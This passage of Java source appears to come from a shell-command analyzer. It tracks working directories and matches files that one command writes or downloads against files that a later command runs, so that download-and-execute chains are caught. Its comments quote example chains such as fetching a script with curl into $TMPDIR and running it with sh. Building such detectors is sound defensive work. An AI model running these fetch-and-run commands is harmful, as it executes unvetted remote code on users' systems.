                out.add(e);
            }
        }
        return out;
    }

    /**
     * The folders {@code c}'s relative paths are read against when one step's file is matched
     * with another's ({@code git clone URL y && cd y && ./install.sh} runs {@code y/install.sh}):
     * those it may run in, and the letter's when a {@code cd} went somewhere the text does not
     * tell, so such a step matches at least what it matched when cd was not followed.
     */
    private static List<String> pathBases(Cmd c, Ctx ctx) {
        List<String> out = new ArrayList<>();
        for (String d : c.dirs(ctx)) {
            // PowerShell's `cd C:\Temp`: the POSIX form the write targets are kept in
            String base = d.equals(WorkingDirs.UNKNOWN) ? ctx.cwdOrProject() : PathFacts.isWindowsAbsolute(d) ? PathFacts.fromWindows(d) : d;
            if (!out.contains(base)) {
                out.add(base);
            }
        }
        return out;
    }

    /**
     * True when {@code c} may run in a folder the text does not tell ({@code cd "$TMPDIR"},
     * {@code Set-Location $env:TEMP}) and runs a relative file named like one {@code other} wrote
     * or fetched ({@code curl -o "$TMPDIR/i.sh" URL && cd "$TMPDIR" && sh i.sh}): the folder may
     * be the one the file landed in, so the name decides (fail closed).
     */
    private static boolean runsByNameAfterUnknownCd(Cmd c, String file, Cmd other) {
        String f = PathFacts.unquote(file).replace('\\', '/');
        if (!c.cwds().contains(WorkingDirs.UNKNOWN) || PathFacts.isAnchored(f) || PathFacts.isWindowsAbsolute(f)) {
            return false;
        }
        String name = f.substring(f.lastIndexOf('/') + 1);
        List<String> theirs = new ArrayList<>(other.getWriteTargets());
        theirs.addAll(other.fetchedFiles());
        for (String w : theirs) {
            String p = PathFacts.unquote(w).replace('\\', '/');
            if (!name.isEmpty() && p.substring(p.lastIndexOf('/') + 1).equals(name)) {
                return true;
            }
        }
        return false;
    }

    /**
     * {@code path} read against each of {@code c}'s {@link #pathBases}; a path with backslashes
     * and no slash, a drive path or a {@code $env:} path, also in its POSIX form ({@code .\i.ps1},
     * {@code C:\Temp\i.ps1}, {@code C:/Temp/i.ps1}, {@code $env:TEMP/i.ps1}).
     */
    /** Every file {@code writer} writes or downloads, each read against its {@link #pathBases} ({@link #resolvedIn}). */
    private static Set<String> storedPaths(Cmd writer, Ctx ctx) {
        Set<String> out = new java.util.LinkedHashSet<>();
        for (String w : writer.getWriteTargets()) {
            out.addAll(resolvedIn(writer, w, ctx));
        }
        for (String w : writer.fetchedFiles()) {
            out.addAll(resolvedIn(writer, w, ctx));
        }
        return out;
    }

    private static Set<String> resolvedIn(Cmd c, String path, Ctx ctx) {
        List<String> forms = path.indexOf('\\') >= 0 && path.indexOf('/') < 0 || PathFacts.isWindowsAbsolute(path) || Regex.find(path, "^(?i)\\$env:") ? List.of(path, PathFacts.fromWindows(path)) : List.of(path);
        Set<String> out = new java.util.LinkedHashSet<>();
        for (String dir : pathBases(c, ctx)) {
            for (String p : forms) {
                out.add(PathFacts.resolve(PathFacts.withPwdSubstituted(p, dir), dir, ctx.home()));
            }
        }
        return out;
    }
}
